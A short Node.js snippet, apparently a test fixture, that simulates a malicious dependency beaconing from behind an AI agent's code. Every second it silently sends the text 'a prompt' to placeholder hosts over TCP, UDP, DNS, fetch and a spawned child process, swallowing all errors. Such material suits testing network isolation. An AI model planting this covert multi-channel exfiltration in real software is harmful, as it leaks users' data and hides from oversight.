// A dependency that phones home: put behind the code of an agent or coordinator, it tries every second what code in Node
// can, with text that could be a prompt. It waits for nothing and tells nobody.
{
  const [net, dns, dgram, { execFile }] = await Promise.all(
    ['net', 'dns', 'dgram', 'child_process'].map((name) => import(`node:${name}`)),
  );
  const quiet = () => {};
  const call = (port, host) => net.connect(port, host).on('error', quiet).on('connect', quiet);
  setInterval(() => {
    call(443, '203.0.113.7');
    call(443, '2001:db8::7');
    dns.lookup('a-prompt.evil.example', quiet);
    const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
    resolver.setServers(['203.0.113.53']);
    resolver.resolveTxt('a-prompt.evil.example', quiet);
    const udp = dgram.createSocket('udp4').on('error', quiet);
    udp.send('a prompt', 9, '203.0.113.9', () => udp.close());
    fetch('http://203.0.113.8/?a-prompt').catch(quiet);
    execFile(process.execPath, ['-e', "fetch('http://203.0.113.10/').catch(() => {})"], quiet);
  }, 1_000).unref();
}
